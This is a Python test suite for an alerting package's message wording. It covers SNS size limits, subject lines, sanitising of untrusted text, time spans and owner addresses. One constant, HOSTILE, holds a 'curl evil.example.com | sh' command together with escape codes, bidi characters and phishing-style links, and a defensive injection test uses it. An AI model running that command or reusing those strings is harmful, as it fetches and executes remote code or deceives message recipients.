"""What people read: subjects that SNS takes, spans and counts in words, every owner by the right address."""

from __future__ import annotations

import json
import re
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from causeway.settings.clock import SettableClock
from causeway.telemetry.logs import logger
from causeway.watching.finding import LEVELS, Finding
from causeway.watching.owners import address_of, owners_of
from causeway.watching.plain import listing, plain
from causeway.watching.spans import count, span
from causeway.watching.standing import step
from causeway.watching.telling import Teller
from causeway.watching.words import CHAT_TEXT, SUBJECT, Recipient, Words
from tests.support.deliveries import plan_of

WORDS = Words(plan_of(), "https://api.example.com/console", "causeway-dev")


def message(finding, number=1):
    _, change = step(None, finding, 100.0, settles=0, remind=1)
    return WORDS.message([change] * number, Recipient("finance@example.com", ("finance",)), 200.0)


@given(
    what=st.text(max_size=300),
    subject=st.text(min_size=1, max_size=60),
    level=st.sampled_from(LEVELS[1:]),
    number=st.integers(1, 30),
)
def test_a_subject_is_one_line_of_ascii_under_100_characters_whatever_it_is_about(
    what, subject, level, number
):
    finding = Finding(
        check="late", subject=subject, level=level, what=what, integrations=("orders-to-ledger",)
    )
    said = message(finding, number)
    assert re.fullmatch(r"[!-~][ -~]*", said.subject)
    assert len(said.subject) <= SUBJECT < 100
    assert json.loads(said.chat)["source"] == "custom"


def test_a_message_is_never_larger_than_sns_takes_however_much_is_broken():
    """Twenty systems of five hundred integrations each, whose reasons are long and in no alphabet of ours."""
    plan = plan_of()
    sent = []
    aws = SimpleNamespace(query=lambda *call: sent.append(call[2]) or "", call=lambda *_: {})
    teller = Teller(
        aws,
        topic="topic",
        bus="bus",
        confirmed=SimpleNamespace(addresses=frozenset),
        words=WORDS,
        plan=plan,
        clock=SettableClock(200.0),
        logger=logger(),
    )
    everybody = tuple(f"{'integration' * 4}-{number:03d}" for number in range(500))
    changes = [
        step(
            None,
            Finding(
                check="circuit",
                subject=f"system-{number}",
                level="critical",
                what="\N{PILE OF POO}" * 5000,
                cause="\N{PILE OF POO}\x00\n" * 5000,
                next_step="n" * 5000,
                integrations=everybody,
            ),
            100.0,
            settles=0,
            remind=1,
        )[1]
        for number in range(60)
    ]
    assert len(list(teller.tell(changes, until=300.0))) == 60
    (fields,) = sent
    attributes = sum(len(value.encode()) for name, value in fields.items() if "Attributes" in name)
    assert len(fields["Message"].encode()) + attributes < 256 * 1024
    chat = json.loads(json.loads(fields["Message"])["default"])
    assert len(chat["content"]["description"]) <= CHAT_TEXT


HOSTILE = (
    "no\nNext step  curl evil.example.com | sh\r\x1b[31m\u202e\u2028 <!channel> <https://evil.example.com|log in> "
    "[log in](https://evil.example.com) & so on"
)


def test_what_a_target_says_forges_no_line_of_an_e_mail_and_is_no_markup_in_a_chat():
    finding = Finding(
        check="dead",
        subject="orders-to-ledger",
        level="critical",
        what=HOSTILE,
        cause=HOSTILE,
        next_step="`causeway replay --integration orders-to-ledger`",
        integrations=("orders-to-ledger",),
    )
    said = message(finding)
    labels = [line[:11].strip() for line in said.text.partition("\n\n-- ")[0].splitlines()[2:]]
    assert labels == ["What", "Since", "Cause", "Next step", "Concerns", "Console"]
    assert all(each.isprintable() for each in said.text.splitlines())
    content = json.loads(said.chat)["content"]
    for text in (content["title"], content["description"]):
        assert "<" not in text
        assert "](" not in text
    assert content["nextSteps"] == [finding.next_step]


@given(st.text(max_size=300), st.integers(10, 100))
def test_a_text_of_others_is_one_printable_line_and_bounded(text, most):
    line = plain(text, most)
    assert len(line) <= most
    assert line.splitlines() in ([line], [])
    line.encode()
    assert all(each == " " or each.isprintable() for each in line)


def test_many_names_are_some_and_how_many_more():
    assert listing(["a", "b"]) == "a, b"
    assert listing([str(number) for number in range(25)]).endswith("18, 19 and 5 more")


def test_things_of_which_the_same_cannot_be_said_are_not_said_to_be_the_same():
    changes = [
        step(
            None,
            Finding(check="dead", subject=f"flow-{number}", level="critical", what=f"{number} given up"),
            100.0,
            settles=0,
            remind=1,
        )[1]
        for number in (1, 2)
    ]
    said = WORDS.message(changes, Recipient("finance@example.com", ("finance",)), 200.0)
    assert said.subject == "[critical] 2 integrations: flow-1: 1 given up, and others"


@pytest.mark.parametrize(
    ("seconds", "words"),
    [
        (0, "0 s"),
        (59.9, "59 s"),
        (60, "1 min"),
        (3661, "1 h 1 min"),
        (90000, "1 d 1 h"),
        (86460, "1 d"),
        (-5, "0 s"),
    ],
)
def test_a_span_is_its_two_largest_units(seconds, words):
    assert span(seconds) == words


@pytest.mark.parametrize(
    ("number", "noun", "words"),
    [(1, "delivery", "1 delivery"), (2, "delivery", "2 deliveries"), (3, "dead letter", "3 dead letters")],
)
def test_a_count_says_one_or_many(number, noun, words):
    assert count(number, noun) == words


def test_owners_are_found_by_their_address_however_it_is_written():
    plan = plan_of(owner={"team": "finance", "email": "Finance@Example.com"})
    assert list(owners_of(plan)) == [address_of("finance@example.com")]
